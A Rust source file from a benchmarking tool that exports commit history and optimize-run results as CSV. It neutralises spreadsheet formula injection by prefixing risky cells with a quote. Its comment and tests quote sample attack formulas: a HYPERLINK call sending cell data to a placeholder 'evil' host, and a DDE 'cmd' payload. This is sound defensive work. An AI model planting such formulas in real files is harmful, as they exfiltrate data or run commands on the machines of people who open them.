//! CSV (`--csv`): RFC 4180 rows (the `csv` crate quotes a field with a comma,
//! a quote or a line break), and cells a spreadsheet cannot run.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (and some also after a leading tab or carriage return): a commit
//! subject `=HYPERLINK("http://evil/?"&A1)` would send a cell's neighbours
//! away when the file is opened. Text that others wrote (commit subjects,
//! labels, bfcli's and the model's messages) goes through [`text`], which
//! prefixes such a cell with `'` as OWASP recommends; numbers are written as
//! numbers (`-3.2` stays a number) and never pass through it.

use super::format::{change_code, unit_code};
use crate::history::{History, PointStatus};
use crate::optimize::record::RunRecord;
use anyhow::Result;
use std::borrow::Cow;

/// `s` as a CSV cell of untrusted text: prefixed with `'` when a spreadsheet
/// would take it for a formula (first character `=`, `+`, `-`, `@`, tab or CR).
pub fn text(s: &str) -> Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{s}")),
        _ => Cow::Borrowed(s),
    }
}

/// `--csv` for `bench-history`: a header row, then one row per commit and
/// case. `change` is the verdict of that commit's paired comparison with the
/// previous commit that built (`faster`, `slower`; empty otherwise), with its
/// Δ and interval in %.
pub fn history(h: &History) -> Result<Vec<u8>> {
    let mut w = ::csv::Writer::from_writer(vec![]);
    w.write_record([
        "index",
        "commit",
        "subject",
        "commit_status",
        "case",
        "status",
        "unit",
        "median",
        "change",
        "delta_pct",
        "ci_low_pct",
        "ci_high_pct",
    ])?;
    for (i, p) in h.points.iter().enumerate() {
        let commit_status = match p.status {
            PointStatus::Measured { .. } => "measured",
            PointStatus::BuildFailed { .. } => "build_failed",
            PointStatus::UnsupportedTree { .. } => "unsupported_tree",
            PointStatus::Missing { .. } => "missing",
        };
        for case in &h.cases {
            let result = p.results.as_ref().and_then(|r| r.cases.iter().find(|c| &c.name == case));
            let change = h.changes.iter().find(|c| &c.case == case && c.change.index == i);
            let (lo, hi) = change.map(|c| c.change.estimate.ci_pct()).unwrap_or_default();
            let opt = |cond: bool, v: String| if cond { v } else { String::new() };
            w.write_record([
                i.to_string(),
                p.commit.clone(),
                text(&p.subject).into_owned(),
                commit_status.into(),
                text(case).into_owned(),
                result.map(|r| super::format::status_fields(&r.status).0.to_owned()).unwrap_or_default(),
                result.map(|r| unit_code(r.unit).to_owned()).unwrap_or_default(),
                result.and_then(|r| r.summary).map(|s| s.median.to_string()).unwrap_or_default(),
                change.map(|c| change_code(Some(c.change.change), true).to_owned()).unwrap_or_default(),
                opt(
                    change.is_some(),
                    change.map(|c| format!("{:.4}", c.change.estimate.delta_pct())).unwrap_or_default(),
                ),
                opt(change.is_some(), format!("{lo:.4}")),
                opt(change.is_some(), format!("{hi:.4}")),
            ])?;
        }
    }
    Ok(w.into_inner()?)
}

/// `--csv` for an optimize run: a header row, then one row per attempt, its
/// suite Δ (geometric mean against its parent) with its interval in %.
pub fn optimize(r: &RunRecord) -> Result<Vec<u8>> {
    let mut w = ::csv::Writer::from_writer(vec![]);
    w.write_record([
        "attempt",
        "outcome",
        "title",
        "suite_delta_pct",
        "ci_low_pct",
        "ci_high_pct",
        "insns_delta",
        "fix_rounds",
        "tokens_in",
        "tokens_out",
        "cost_usd",
        "commit",
    ])?;
    for a in &r.attempts {
        let g = a.geomean.as_ref();
        w.write_record([
            a.index.to_string(),
            a.outcome.as_ref().map(|o| o.name()).unwrap_or("running").to_owned(),
            text(a.title()).into_owned(),
            g.map(|g| format!("{:.4}", g.delta_pct())).unwrap_or_default(),
            g.map(|g| format!("{:.4}", g.ci_pct().0)).unwrap_or_default(),
            g.map(|g| format!("{:.4}", g.ci_pct().1)).unwrap_or_default(),
            a.insns_delta.map(|d| d.to_string()).unwrap_or_default(),
            a.fix_rounds.to_string(),
            a.tokens.0.to_string(),
            a.tokens.1.to_string(),
            format!("{:.4}", a.cost_usd),
            a.commit.clone().unwrap_or_default(),
        ])?;
    }
    Ok(w.into_inner()?)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_numbers_stay_numbers() {
        for hostile in ["=HYPERLINK(\"http://e/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(text(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in ["fix the prologue", "xdp__prologue", "", "1 = 1", "'quoted"] {
            assert!(matches!(text(plain), Cow::Borrowed(_)), "{plain:?}");
        }
        // Through the writer: the hostile subject is neutralised, a negative number is not.
        let mut h = crate::output::html::history::tests::synthetic();
        h.points[0].subject = "=cmd|' /C calc'!A0".into();
        let out = String::from_utf8(history(&h).unwrap()).unwrap();
        let mut rows = ::csv::Reader::from_reader(out.as_bytes());
        let rows: Vec<::csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        assert_eq!(&rows[0][2], "'=cmd|' /C calc'!A0");
        let change = rows.iter().find(|r| &r[8] == "slower").expect("the slower change");
        assert_eq!(change[9].parse::<f64>().unwrap(), 25.0);
        assert!(change[10].parse::<f64>().unwrap() > 0.0);
    }
}
